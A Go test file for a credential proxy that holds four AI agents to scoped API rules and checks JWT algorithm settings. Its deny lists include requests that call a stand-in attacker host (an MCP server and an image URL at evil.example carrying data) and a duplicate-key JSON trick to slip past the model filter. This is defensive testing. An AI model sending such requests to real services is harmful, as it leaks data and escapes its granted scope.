package brokers

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vouchd/vouchd/credential"
	"github.com/vouchd/vouchd/credential/policy"
)

// examples loads the definitions that the packages ship for four kinds of agent.
func examples(t *testing.T) *credential.Definitions {
	t.Helper()
	files, err := filepath.Glob("../../packaging/etc/credentials.d/*.disabled")
	if err != nil || len(files) != 4 {
		t.Fatalf("%q: %v", files, err)
	}
	dir := t.TempDir()
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, strings.TrimSuffix(filepath.Base(f), ".disabled")), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	defs, err := credential.LoadDefinitions(dir, All(Deps{}), true)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(defs.Close)
	return defs
}

func TestDefinitionThatNeedsAnExcludedAlgorithmIsRefused(t *testing.T) {
	t.Parallel()
	load := func(text string, algorithms ...string) error {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "a.yaml"), []byte("credentials:\n  - name: a\n"+text), 0o600); err != nil {
			t.Fatal(err)
		}
		defs, err := credential.LoadDefinitions(dir, All(Deps{JWTAlgorithms: algorithms}), true)
		defs.Close()
		return err
	}
	const (
		azure  = "    broker: federation\n    federation: {profile: azure-v2.0, audience: a, tenant_id: t, client_id: c, scope: s}\n"
		secret = "    broker: azure-secret\n    azure-secret: {tenant_id: t, client_id: c, vault_url: 'https://v.example', secret: s}\n"
		vault  = "    broker: vault\n    vault: {address: 'https://v.example', role: r, path: database/creds/x, auth: %s}\n"
		static = "    broker: static\n    static: {secret: s}\n"
	)
	for _, tt := range []struct {
		name, text string
		algorithms []string
		err        string
	}{
		{"Azure with RS256", azure, []string{"ES256", "RS256"}, ""},
		{"Azure without", azure, []string{"ES256"}, "credential a needs JWT-SVIDs signed with RS256, which is not among authority.jwt_algorithms in vouchd.yaml; add it there"},
		{"Azure without, checked alone", azure, nil, ""},
		{"Key Vault without", secret, []string{"ES256"}, "signed with RS256"},
		{"Vault, which takes both", fmt.Sprintf(vault, "jwt"), []string{"ES256"}, ""},
		{"Vault that says so", fmt.Sprintf(vault, "jwt") + "    jwt_algorithm: RS256\n", []string{"ES256"}, "signed with RS256"},
		{"Vault by certificate", fmt.Sprintf(vault, "cert") + "    jwt_algorithm: RS256\n", nil, "presents no JWT-SVID; remove the key"},
		{"a secret of the host", static + "    jwt_algorithm: RS256\n", nil, "presents no JWT-SVID; remove the key"},
		{"an algorithm that nobody has", azure + "    jwt_algorithm: HS256\n", nil, "jwt_algorithm \"HS256\""},
	} {
		if err := load(tt.text, tt.algorithms...); (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.err)
		}
	}
}

// TestFourAgentsAreHeldToTheirScopesByRules, whatever the tokens could do.
func TestFourAgentsAreHeldToTheirScopesByRules(t *testing.T) {
	t.Parallel()
	defs := examples(t)
	for name, of := range map[string]struct{ allowed, refused []string }{
		"openai-research": {
			[]string{`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false}`, `GET /v1/models`},
			[]string{
				`POST /v1/responses {"model":"gpt-5","tools":[{"type":"web_search"}],"input":"tides","store":false}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"code_interpreter"}],"input":"tides","store":false}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"},{"type":"mcp","server_url":"https://evil.example"}],"input":"tides","store":false}`,
				`POST /v1/responses {"model":"gpt-5-mini","model":"gpt-5","tools":[{"type":"web_search"}],"input":"tides","store":false}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides"}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":true}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=x"}]}],"store":false}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"previous_response_id":"resp_1"}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"conversation":{"id":"conv_1"}}`,
				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"prompt":{"id":"pmpt_1"}}`,
				`POST /v1/responses {"model":"gpt-5-mini","input":"tides","store":false}`, `POST /v1/files {}`, `POST /v1/chat/completions {"model":"gpt-5-mini"}`, `DELETE /v1/responses/1`,
			},
		},
		"crm-sync": {
			[]string{`GET /v3/objects/contacts?limit=10`, `PATCH /v3/objects/contacts/7 {}`, `POST /v3/objects/contacts/search {}`},
			[]string{`GET /v3/objects/companies`, `GET /v3/objects/invoices/1`, `DELETE /v3/objects/contacts/7`, `POST /v3/objects/contacts/merge {}`, `POST /v3/objects/contacts/gdpr-delete {}`, `POST /v3/objects/contacts/batch/archive {}`, `GET /v3/owners`, `POST /oauth/token {}`},
		},
		"sandbox": {
			[]string{`PUT /agent-sandbox/code-runner/task-1/out.txt`, `GET /agent-sandbox/code-runner/task-1/in/a.csv`},
			[]string{`GET /agent-sandbox/other/x`, `GET /agent-sandbox?list-type=2`, `DELETE /agent-sandbox/code-runner/task-1/x`, `PUT /agent-sandbox/code-runner/task-1/x?acl`, `PUT /agent-sandbox/code-runner/task-1/x?retention`, `PUT /agent-sandbox/code-runner/task-1/x?tagging`, `GET /other-bucket/code-runner/t/x`, `PUT /agent-sandbox/code-runner`},
		},
		"mail-drafts": {
			[]string{`POST /v1.0/users/me@example.com/messages {}`, `PATCH /v1.0/users/me@example.com/messages/AAA {}`, `GET /v1.0/users/me@example.com/mailFolders/drafts/messages`},
			[]string{
				`POST /v1.0/users/me@example.com/sendMail {}`, `POST /v1.0/users/me@example.com/messages/AAA/send`, `POST /v1.0/users/me@example.com/messages/AAA/forward {}`,
				`GET /v1.0/users/me@example.com/messages`, `POST /v1.0/users/me@example.com/mailFolders/inbox/messageRules {}`, `POST /beta/users/me@example.com/sendMail {}`, `POST /v1.0/$batch {}`,
			},
		},
	} {
		d, ok := defs.Get(name)
		if !ok || d.Proxy == nil || d.Deliver != credential.DeliverProxy {
			t.Errorf("%s is not delivered by the proxy", name)
			continue
		}
		for effect, lines := range map[policy.Effect][]string{policy.Allow: of.allowed, policy.Deny: of.refused} {
			for _, line := range lines {
				parts := strings.SplitN(line, " ", 3)
				target, err := policy.ParseTarget(parts[1], d.Proxy.Slashes)
				if err != nil {
					t.Errorf("%s: %s: %v", name, line, err)
					continue
				}
				q := &policy.Request{Method: parts[0], Target: target}
				if len(parts) == 3 {
					if !json.Valid([]byte(parts[2])) {
						t.Fatalf("%s", line)
					}
					q.Type, q.Size = "application/json", int64(len(parts[2]))
					q.JSON, _ = policy.ReadJSON([]byte(parts[2]), d.Proxy.Pointers(q.Method, target)) // nil: it cannot be read
				}
				if v := d.Proxy.Judge(q); v.Effect != effect {
					t.Errorf("%s: %s: %s by %q, want %s", name, line, v.Effect, v.Rule, effect)
				}
			}
		}
	}
}
